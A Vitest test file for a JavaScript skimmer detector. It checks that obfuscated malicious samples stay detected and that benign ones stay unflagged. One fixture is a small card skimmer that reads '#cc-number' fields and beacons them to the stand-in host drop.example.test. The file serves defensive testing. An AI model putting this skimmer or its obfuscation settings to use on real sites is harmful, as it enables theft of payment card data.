import JavaScriptObfuscator, { type ObfuscatorOptions } from 'javascript-obfuscator'
import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { loadSamples, rewritable } from '../../fixtures/samples/load.ts'
import { LOADED_MACHINE } from './detector/slow.ts'
import { legacy, preset } from '../../fixtures/samples/dress.ts'

// Every sample dressed by the real javascript-obfuscator at test time: string arrays must be
// resolved statically well enough that skimmers stay caught and benign code stays uncalled.

type Encoding = 'none' | 'base64' | 'rc4'

function obfuscate(source: string, encoding: Encoding, extra: ObfuscatorOptions): string {
  return JavaScriptObfuscator.obfuscate(source, {
    stringArray: true,
    stringArrayEncoding: [encoding],
    stringArrayRotate: true,
    stringArrayShuffle: true,
    stringArrayThreshold: 1,
    seed: 1337,
    ...extra,
  }).getObfuscatedCode()
}

const samples = loadSamples()
const malicious = samples.filter((s) => s.kind === 'malicious' && rewritable(s))
const benign = samples.filter((s) => s.kind === 'benign')

const DRESSES: { name: string; options: ObfuscatorOptions }[] = [
  // decoder call arguments moved out into object literals (`f(t._0x1a, t._0x2b)`)
  {
    name: 'call arguments in tables',
    options: { stringArrayCallsTransform: true, stringArrayCallsTransformThreshold: 1 },
  },
  // every string, the decoder's own alphabet and method names included, spelled in \x escapes
  {
    name: 'unicode escape sequences, mangled names',
    options: { unicodeEscapeSequence: true, identifierNamesGenerator: 'mangled' },
  },
  { name: 'variable wrappers ×1', options: { stringArrayWrappersCount: 1 } },
  {
    name: 'chained function wrappers ×2, extra parameters',
    options: {
      stringArrayWrappersCount: 2,
      stringArrayWrappersType: 'function',
      stringArrayWrappersChainedCalls: true,
      stringArrayWrappersParametersMaxCount: 5,
    },
  },
]

describe.each(['none', 'base64', 'rc4'] as const)(
  'javascript-obfuscator, %s encoding',
  LOADED_MACHINE,
  (enc) => {
    it('with control-flow flattening on keeps at least 90% of the malicious samples malicious and none clean', () => {
      const options: ObfuscatorOptions = {
        controlFlowFlattening: true,
        stringArrayWrappersCount: 1,
      }
      const verdicts = malicious.map((s) => ({
        name: s.name,
        verdict: analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
      }))
      expect(verdicts.filter((v) => v.verdict === 'clean')).toEqual([])
      const strict = verdicts.filter((v) => v.verdict === 'malicious').length
      expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
      for (const s of benign)
        expect(
          analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
        ).not.toBe('malicious')
    })

    describe.each(DRESSES)('$name', ({ options }) => {
      it('keeps at least 90% of the malicious samples malicious and none clean', () => {
        const verdicts = malicious.map((s) => ({
          name: s.name,
          verdict: analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
        }))
        expect(verdicts.filter((v) => v.verdict === 'clean')).toEqual([])
        const strict = verdicts.filter((v) => v.verdict === 'malicious').length
        expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
      })

      it('never calls a benign sample malicious', () => {
        for (const s of benign) {
          const v = analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {})
          expect({ name: s.name, verdict: v.verdict }).not.toEqual({
            name: s.name,
            verdict: 'malicious',
          })
        }
      })
    })
  },
)

describe('javascript-obfuscator string arrays, resolved', LOADED_MACHINE, () => {
  const skimmer = `document.querySelectorAll('#cc-number').forEach(function (e) {
    navigator.sendBeacon('https://drop.example.test/c', e.value)
  })`

  it.each(['none', 'base64', 'rc4'] as const)('puts names, selectors and URLs back (%s)', (enc) => {
    const out = obfuscate(skimmer, enc, {
      stringArrayWrappersCount: 2,
      stringArrayWrappersType: 'function',
    })
    if (enc !== 'none') expect(out).not.toContain('cc-number')
    const v = analyzeScript(out)
    const rules = v.findings.map((f) => f.rule)
    expect(rules).toContain('card-field-read-and-send')
    expect(v.findings.some((f) => f.snippet?.includes('drop.example.test'))).toBe(true)
  })

  it('points findings at the obfuscated file, not at the rewritten text', () => {
    const out = obfuscate(`\n\n${skimmer}`, 'rc4', { stringArrayWrappersCount: 1 })
    const lines = out.split('\n')
    for (const f of analyzeScript(out).findings) {
      expect(f.line).toBeGreaterThanOrEqual(1)
      expect(f.line).toBeLessThanOrEqual(lines.length)
      expect(f.column).toBeLessThanOrEqual((lines[f.line - 1] ?? '').length)
    }
  })

  it('leaves code without a string array untouched', () => {
    const plain = `var a = ['x', 'y']; function f(i) { i = i - 1; return a[i] } f(1)`
    expect(analyzeScript(plain).verdict).toBe('clean')
  })
})

// javascript-obfuscator's own presets as a skimmer's author would pick one (fixtures dress.ts):
// every transform together, the self-defending and console-silencing code included.
describe.each([
  { level: 'medium', malicious: 0.8 },
  { level: 'high', malicious: 0.85 },
] as const)(
  "javascript-obfuscator's $level preset",
  { timeout: 240_000 },
  ({ level, ...floor }) => {
    it('keeps most malicious samples malicious and nine in ten detected', () => {
      const verdicts = malicious.map(
        (s) => analyzeScript(preset(s.source, level), s.expected.ctx ?? {}).verdict,
      )
      const strict = verdicts.filter((v) => v === 'malicious').length
      const detected = verdicts.filter((v) => v !== 'clean').length
      expect(strict / malicious.length).toBeGreaterThanOrEqual(floor.malicious)
      expect(detected / malicious.length).toBeGreaterThanOrEqual(0.9)
    })

    it('never turns a benign sample that is clean as written malicious', () => {
      for (const s of benign) {
        if (analyzeScript(s.source, s.expected.ctx ?? {}).verdict !== 'clean') continue
        const v = analyzeScript(preset(s.source, level), s.expected.ctx ?? {})
        expect({ name: s.name, verdict: v.verdict }).not.toEqual({
          name: s.name,
          verdict: 'malicious',
        })
      }
    })
  },
)

// Earlier releases with every string-hiding option of their day (fixtures dress.ts), as the
// 2018–2021 skimmers in public write-ups carry them: a differently turned array and decoder.
describe.each([1, 2] as const)(
  'javascript-obfuscator release %i, every option',
  { timeout: 360_000 },
  (release) => {
    const dressed = (source: string): string | undefined => {
      try {
        return legacy(source, release)
      } catch {
        // syntax newer than the release reads: no such file was ever made with it
        return undefined
      }
    }

    it('keeps most malicious samples malicious and nineteen in twenty detected', () => {
      const verdicts = malicious.flatMap((s) => {
        const code = dressed(s.source)
        return code === undefined ? [] : [analyzeScript(code, s.expected.ctx ?? {}).verdict]
      })
      expect(verdicts.length).toBeGreaterThan(100)
      const strict = verdicts.filter((v) => v === 'malicious').length
      const detected = verdicts.filter((v) => v !== 'clean').length
      expect(strict / verdicts.length).toBeGreaterThanOrEqual(0.85)
      expect(detected / verdicts.length).toBeGreaterThanOrEqual(0.95)
    })

    it('never turns a benign sample that is clean as written malicious', () => {
      for (const s of benign) {
        if (analyzeScript(s.source, s.expected.ctx ?? {}).verdict !== 'clean') continue
        const code = dressed(s.source)
        if (code === undefined) continue
        const v = analyzeScript(code, s.expected.ctx ?? {})
        expect({ name: s.name, verdict: v.verdict }).not.toEqual({
          name: s.name,
          verdict: 'malicious',
        })
      }
    })
  },
)
